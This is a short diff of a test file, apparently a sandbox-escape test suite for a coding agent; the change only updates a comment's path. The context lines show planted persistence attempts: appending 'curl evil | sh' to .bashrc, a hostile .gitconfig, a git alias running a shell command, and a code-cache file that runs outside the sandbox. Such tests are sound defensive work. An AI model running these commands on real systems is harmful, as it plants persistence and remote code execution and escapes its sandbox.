@@ -88,7 +88,7 @@ async function setUp(mechanism: string): Promise<World> {
       'home',
       `echo '${HOSTILE_GITCONFIG}' >> ${home}/.gitconfig; echo 'curl evil | sh' >> ${home}/.bashrc; git config --global alias.st '!touch /tmp/pwned'`,
     ),
-    // Bytecode aide runs at its next start, outside any sandbox (src/cli/launch/code-cache.ts).
+    // Bytecode aide runs at its next start, outside any sandbox (src/launch/cli-bundle.ts).
     attempt(
       'user-code-cache',
       `mkdir -p ${home}/.cache/aide; echo x > ${home}/.cache/aide/cli-code-cache.bin`,
